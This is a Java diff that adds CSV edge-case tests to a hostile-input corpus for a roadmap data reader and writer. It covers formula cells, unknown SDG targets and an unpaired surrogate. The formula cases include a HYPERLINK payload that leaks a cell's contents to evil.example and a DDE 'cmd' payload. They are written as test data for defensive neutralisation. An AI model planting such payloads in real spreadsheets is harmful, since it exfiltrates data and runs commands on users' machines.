@@ -126,6 +126,7 @@ final class HostileCorpus {
     corpus.yaml();
     corpus.jsonLines();
     corpus.csv();
+    corpus.csvEdges();
     corpus.text();
     return corpus.entries;
   }
@@ -550,6 +551,46 @@ final class HostileCorpus {
     add("csv/many-columns.csv", Expect.REJECT, "a data row with 100,000 fields", base + repeat("x,", 100_000) + "x\n");
     add("csv/semicolon-separated.csv", Expect.REJECT, "semicolons as separators", base.replace(",", ";"));
     add("csv/tab-separated.csv", Expect.REJECT, "tabs as separators", base.replace(",", "\t"));
+  }
+
+  /**
+   * CSV cells that a spreadsheet would evaluate, SDG targets missing from the UN catalogue and an
+   * unpaired surrogate: the flat table must read formulas as their text, and refuse what the JSON
+   * reader refuses.
+   */
+  private void csvEdges() {
+    String base = RoadmapCsv.toOutcomesString(SampleRoadmaps.small());
+    String[] formulas = {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3",
+        "@SUM(1)", "\t=1+1", "\r=1+1", "'quoted"};
+    org.wsis.roadmap.Roadmap small = SampleRoadmaps.small();
+    org.wsis.roadmap.ActionLineRoadmap line = small.getActionLines().get(0);
+    List<org.wsis.roadmap.Outcome> outcomes = new ArrayList<>();
+    for (int i = 0; i < formulas.length; i++) {
+      outcomes.add(org.wsis.roadmap.Outcome.builder().from(line.getOutcomes().get(0))
+          .id(org.wsis.roadmap.OutcomeId.parse("C5.GT." + (char) ('A' + i)))
+          .label(formulas[i]).statement(formulas[i]).sdgRaw(formulas[i])
+          .timing(org.wsis.roadmap.Timing.builder().raw(formulas[i]).build())
+          .references(List.of(org.wsis.roadmap.TextRef.builder().raw(formulas[i]).build()))
+          .build());
+    }
+    org.wsis.roadmap.Roadmap withFormulas = org.wsis.roadmap.Roadmap.builder().from(small)
+        .actionLines(List.of(org.wsis.roadmap.ActionLineRoadmap.builder().from(line).outcomes(outcomes).build()))
+        .build();
+    add("csv/formula-cells-written.csv", Expect.ACCEPT, "statements, labels, timing, SDG cells and references that"
+        + " start with =, +, -, @, tab, CR or ', as the writer writes them (each after an apostrophe, inert)",
+        RoadmapCsv.toOutcomesString(withFormulas));
+    add("csv/formula-cells-unmarked.csv", Expect.ACCEPT, "cells starting with =, +, - and @ without the apostrophe,"
+        + " as a spreadsheet saves them: read as their text",
+        base.replace("\"Promote cooperation", "\"=HYPERLINK(\"\"http://evil.example\"\")+Promote cooperation")
+            .replace(",\"Renforcer", ",\"@SUM(1)+Renforcer").replace(",A,", ",-2+3,").replace(",a,", ",+a,"));
+    for (String code : new String[] {"9.z", "9.99", "17.20"}) {
+      add("csv/unknown-sdg-target-" + code.replace('.', '-') + ".csv", Expect.REJECT, "an SDG target " + code
+          + " missing from the UN catalogue, which the JSON reader refuses too", once(base, "\"16, 9.c\"", "\"16, " + code + "\""));
+    }
+    int at = base.indexOf("Renforcer");
+    add("csv/lone-surrogate.csv", Expect.REJECT, "an unpaired surrogate U+D800 encoded in a statement (bytes ED A0 80,"
+        + " not UTF-8)", concat(utf8(base.substring(0, at)), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
+            utf8(base.substring(at))));
   }
 
   private static String lastRow(String csv) {
